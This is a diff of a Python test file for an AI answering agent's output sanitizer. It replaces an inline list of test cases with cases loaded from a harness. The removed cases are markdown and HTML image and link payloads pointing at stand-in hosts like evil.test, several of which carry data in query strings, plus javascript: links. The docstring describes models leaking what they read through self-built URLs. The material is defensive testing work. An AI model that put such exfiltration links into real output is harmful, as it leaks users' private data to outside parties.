@@ -13,6 +13,7 @@ from service.domains.agents.answering.citations import CITATION_DROPPED, NUMBER_
 from service.domains.agents.answering.links import IMAGE_REMOVED, LINK_REMOVED
 from service.domains.agents.answering.models import Citation, Passage
 from service.domains.agents.answering.streaming import check_partial
+from tests.harness.cases import cases
 
 TEXTS = (
     "Everyone has 27 days of annual leave, plus public holidays.",
@@ -130,41 +131,11 @@ def test_bare_numbers_are_dropped_and_other_brackets_stay() -> None:
     assert checked(text) == Checked(text, [], [])
 
 
-@pytest.mark.parametrize(
-    ("text", "shown", "warning"),
-    [
-        ("a ![pixel](https://evil.test/?q=27) b", "a  b", IMAGE_REMOVED),
-        ("![x](https://example.test/leave?year=2)", "", IMAGE_REMOVED),
-        ("![x][1]", "", IMAGE_REMOVED),
-        ('<img src="https://evil.test/?q=27">', "", IMAGE_REMOVED),
-        ("[here](https://evil.test/?q=27)", "here", LINK_REMOVED),
-        ("[here](https://example.test/leave?year=2&q=27)", "here", LINK_REMOVED),
-        ("[here](//evil.test/x)", "here", LINK_REMOVED),
-        ("[he[r]e](//evil.test/x)", "[he[r]e] (//evil.test/x)", LINK_REMOVED),
-        ("[here](javascript:alert)", "here", LINK_REMOVED),
-        ("see https://evil.test/27-days.", "see .", LINK_REMOVED),
-        ("see HTTPS://EVIL.TEST/27, or", "see , or", LINK_REMOVED),
-        ("see www.evil.test/27", "see", LINK_REMOVED),
-        ("<https://evil.test/27>", "<>", LINK_REMOVED),
-        ("[r]: https://evil.test/27", "", LINK_REMOVED),
-        ("> [r]: //evil.test/27", "> [r] : //evil.test/27", LINK_REMOVED),
-        ("- [r]: https:evil.test", "- [r] : https:evil.test", LINK_REMOVED),
-        ("> [r]: &sol;&sol;evil.test", "> [r] : &sol;&sol;evil.test", LINK_REMOVED),
-        ("<https:evil.test/27>", "< https:evil.test/27>", LINK_REMOVED),
-        ("<td background=//evil.test/27\n<b>", "< td background=//evil.test/27\n<b>", LINK_REMOVED),
-        ("[here](<https://example.test/leave?year=2 27>)", "here", LINK_REMOVED),
-        ("[r]: <https://example.test/leave?year=2 27>", "", LINK_REMOVED),
-        ("[here](//person.test/(27))", "here", LINK_REMOVED),
-        ("[here](//person.test/>27)", "here", LINK_REMOVED),
-        ("[here](javascript:alert(27))", "here", LINK_REMOVED),
-        ('https://example.test/leave?year=2"27', "", LINK_REMOVED),
-        ("https://example.test/leave?year=2`27", "", LINK_REMOVED),
-    ],
-)
-def test_ways_out_are_removed(text: str, shown: str, warning: str) -> None:
+@pytest.mark.parametrize(("text", "shown", "removed"), cases("ways_out_are_removed"))
+def test_ways_out_are_removed(text: str, shown: str, removed: str) -> None:
     """An address that a model put together itself can carry what it read to somebody else, however it is written."""
     known = ["[a](//person.test/) and [b](javascript:alert(1))"]
-    assert checked(text, known=known) == Checked(shown, [], [warning])
+    assert checked(text, known=known) == Checked(shown, [], [{"image": IMAGE_REMOVED, "link": LINK_REMOVED}[removed]])
 
 
 def test_what_takes_too_many_rounds_is_taken_apart() -> None:
